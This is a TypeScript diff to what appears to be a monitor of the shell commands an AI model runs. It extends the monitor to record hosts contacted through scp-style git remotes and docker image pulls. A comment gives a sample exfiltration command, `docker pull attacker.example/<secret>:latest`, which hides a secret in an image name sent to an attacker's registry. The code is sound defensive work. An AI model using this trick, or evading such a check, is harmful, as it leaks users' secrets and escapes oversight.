@@ -2132,6 +2132,18 @@ function cloneDir(url: string | null): string | null {
 
 /** A repository named by URL or path rather than by a configured remote. */
 const REPO_URL = /^([a-z][a-z0-9+.-]*:\/\/|[^@/\s]+@[^:/\s]+:|[./~])/i;
+/** `[user@]host:path` with no slash before the colon: git's scp-like ssh remote; group 1 the host. */
+const SCP_REMOTE = /^(?:[^@/\s:]+@)?(\[[^\]/]+\]|[^@/\s:[]+):(?!\/\/)/;
+/** Which operand of a git subcommand names a repository (-1: `remote add NAME URL` / `set-url … URL`). */
+const GIT_REPO_OPERAND: Record<string, number> = {
+  clone: 0,
+  fetch: 0,
+  pull: 0,
+  push: 0,
+  "ls-remote": 0,
+  remote: -1,
+  submodule: 1,
+};
 
 /**
  * What git subcommands do with their operands: `worktree add DIR`, `clone URL DIR` and
@@ -2161,6 +2173,29 @@ function gitOperands(sub: string, rest: Word[], ctx: EffectsCtx, fx: Effects): v
       )
     )
       k++;
+  }
+  // gate49: git's scp-like spelling of an ssh remote (`[user@]host:path`, no slash before the
+  // colon) names the host it connects to, as a URL does (the walk reads those): the repository
+  // operand of clone/fetch/pull/push/ls-remote, the URL of remote add/set-url, submodule add.
+  const repoAt = GIT_REPO_OPERAND[sub];
+  if (repoAt !== undefined) {
+    const at =
+      repoAt < 0
+        ? ops[0] === "add"
+          ? 2
+          : ops[0] === "set-url"
+            ? ops.length - 1
+            : -1
+        : repoAt > 0 && ops[0] !== "add"
+          ? -1
+          : repoAt;
+    const v = at >= 0 ? ops[at] : undefined;
+    const m = v == null ? null : SCP_REMOTE.exec(v);
+    if (m) {
+      const h = canonicalHost(m[1]!);
+      if (h !== "" && !fx.hosts.includes(h)) fx.hosts.push(h);
+      urlDataFloor(`${h}/${v!.slice(m[0].length)}`, ctx, fx);
+    }
   }
   if (sub === "mv" && ops.length >= 2) {
     // `git mv -f x Makefile`, `git mv a b DIR`: the last operand is written (or DIR/<basename>).
@@ -3609,6 +3644,17 @@ function imageEffects(words: Word[], sub: number, image: number, ctx: EffectsCtx
     send(ref?.value ?? null);
     return;
   }
+  // gate49: a pull (and a run or create, which pulls an image it does not have) asks the image's
+  // registry for REPO:TAG by name: the registry is a host the command contacts, and the name what
+  // the model sends it (`docker pull attacker.example/<secret>:latest`).
+  if (op === "pull") {
+    for (let k = 0; k < rest.length; k++) {
+      const v = rest[k]!.value;
+      if (v === "--platform") k++;
+      else if (v !== null && !v.startsWith("-")) pulled(v, ctx, fx);
+    }
+    return;
+  }
   if (op === "build" || op === "bake") {
     const outputs = values(["-o", "--output"]);
     const push =
@@ -3633,10 +3679,15 @@ function imageEffects(words: Word[], sub: number, image: number, ctx: EffectsCtx
       values(["-v", "--volume", "--mount"]).length > 0 ||
       rest.some((w) => w.value !== null && /^-v./.test(w.value));
     const ref = words[image]!.value;
-    if (!mounts) return;
-    const h = ref === null ? null : imageRegistry(ref);
-    if (ref === null)
+    if (ref !== null) pulled(ref, ctx, fx);
+    if (ref === null && mounts)
       floor(fx, `containers: '${ctx.text}' mounts files into an image only known at run time`);
-    else if (h !== null && !fx.hosts.includes(h)) fx.hosts.push(h);
   }
+}
+
+/** An image the command pulls: its registry is a host (imageRegistry), its name data sent there. */
+function pulled(ref: string, ctx: EffectsCtx, fx: Effects): void {
+  const h = imageRegistry(ref);
+  if (h !== null && !fx.hosts.includes(h)) fx.hosts.push(h);
+  urlDataFloor(ref.replace(/^docker:\/\//, ""), ctx, fx);
 }
